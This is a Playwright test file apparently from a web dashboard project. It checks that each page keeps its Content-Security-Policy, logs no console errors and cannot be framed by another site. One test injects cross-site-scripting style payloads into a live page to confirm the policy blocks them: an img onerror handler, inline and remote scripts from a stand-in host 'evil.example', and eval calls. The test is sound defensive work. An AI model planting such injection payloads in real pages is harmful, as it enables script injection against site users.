"""Every page keeps the Content-Security-Policy that it is sent with, and tells the
browser's console nothing."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page

from benchmarks.page import until
from benchmarks.stage import Stage, open_stage, wait_for
from tests.browser.test_every_page import BROKEN, PAGES
from tests.browser.test_wall import two_deployments

pytestmark = pytest.mark.browser
LISTENING = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", event => window.__violations.push(
    `${event.effectiveDirective}: ${event.blockedURI} (${event.sourceFile}:${event.lineNumber})`));
"""
EVIL = """() => new Promise(done => setTimeout(() => {
    const told = [];
    const add = (kind, given) => document.body.append(Object.assign(document.createElement(kind), given));
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.__evil = 1'>");
    add("script", { text: "window.__evil = 2" });
    add("script", { src: "https://evil.example/x.js" });
    add("iframe", { src: "https://evil.example/" });
    for (const run of [() => (0, eval)("window.__evil = 3"), () => new Function("window.__evil = 4")()])
        try { run(); } catch (error) { told.push(error.name); }
    done(told);
}, 0))"""
"""From a timer of the page: what the debugger itself runs, no policy is asked about."""


@contextmanager
def watched(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what it complains of."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.add_init_script(LISTENING)
    page, said = context.new_page(), []
    page.on("console", lambda message: said.extend(complaint(message)))
    page.on("pageerror", lambda error: said.append(f"error: {error}"))
    try:
        yield page, said
    finally:
        context.close()


def complaint(message: ConsoleMessage) -> Iterator[str]:
    """A page that says that there is none is answered with 404, as it should be."""
    if message.type in ("error", "warning") and "status of 4" not in message.text:
        yield f"{message.type}: {message.text}"


def violations(page: Page) -> list[str]:
    return list(page.evaluate("window.__violations"))


def test_the_map_with_panel_and_charts_breaks_no_rule(
    browser: Browser, stage: Stage
) -> None:
    with watched(browser) as (page, said):
        page.goto(f"{stage.url}/map/{stage.deployment}?c=6&charts=all")
        page.evaluate(until("document.querySelector('#charts .plot .main-svg')"))
        assert violations(page) == []
        assert said == []


def test_what_a_script_from_elsewhere_would_do_is_stopped(
    browser: Browser, stage: Stage
) -> None:
    """The policy itself, with somebody who got as far as writing into the page."""
    with watched(browser) as (page, _):
        page.goto(f"{stage.url}/map/{stage.deployment}")
        assert page.evaluate(EVIL) == ["EvalError", "EvalError"]
        page.evaluate(until("window.__violations.length >= 6"))
        assert page.evaluate("window.__evil") is None
        told = " ".join(violations(page))
        for directive in (
            "script-src-attr",
            "script-src-elem",
            "frame-src",
            "script-src",
        ):
            assert directive in told, told


def test_no_page_of_another_site_frames_it(browser: Browser, stage: Stage) -> None:
    """The browser shows its own error page instead."""
    with watched(browser) as (page, _):
        frame = f"<iframe src='{stage.url}/map/{stage.deployment}'></iframe>"
        page.route(
            "http://other.example/",
            lambda route: route.fulfill(content_type="text/html", body=frame),
        )
        page.goto("http://other.example/")
        framed = page.frames[1]
        while not framed.url.startswith("chrome-error:"):
            assert stage.deployment not in framed.url or not framed.title()
            page.wait_for_timeout(20)


MORE = {
    "capacity": ("/capacity/{id}", "document.querySelector('main')"),
    "compare": ("/compare/{id}", "document.querySelector('main')"),
    "lens": ("/map/{id}?lens=capacity", BROKEN),
    "replay": ("/map/{id}?replay=1h", BROKEN),
}
EVERY = PAGES | MORE


@pytest.fixture(scope="module")
def broken(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """Two deployments in which Redis is down for as long as it takes."""
    with open_stage(tmp_path_factory.mktemp("policy"), two_deployments) as running:
        running.inject("pod_crash", "redis")
        wait_for("an incident", lambda: bool(running.snapshot()["incident"]))
        yield running


@pytest.mark.thorough
@pytest.mark.timeout(180)
@pytest.mark.parametrize("theme", ["light", "dark", "contrast"])
@pytest.mark.parametrize("name", EVERY)
def test_every_page_breaks_no_rule(
    browser: Browser, broken: Stage, name: str, theme: str
) -> None:
    path, there = EVERY[name]
    incident = broken.snapshot()["incident"]
    asked = path.format(id=broken.deployment, incident=incident, theme=theme)
    with watched(browser) as (page, said):
        page.add_init_script(f"localStorage.setItem('gws-theme', '{theme}')")
        page.goto(f"{broken.url}{asked}")
        page.evaluate(until(there))
        # What comes a little later comes with the next signs of life.
        page.evaluate(until("performance.now() > 3000"))
        assert violations(page) == []
        assert said == []
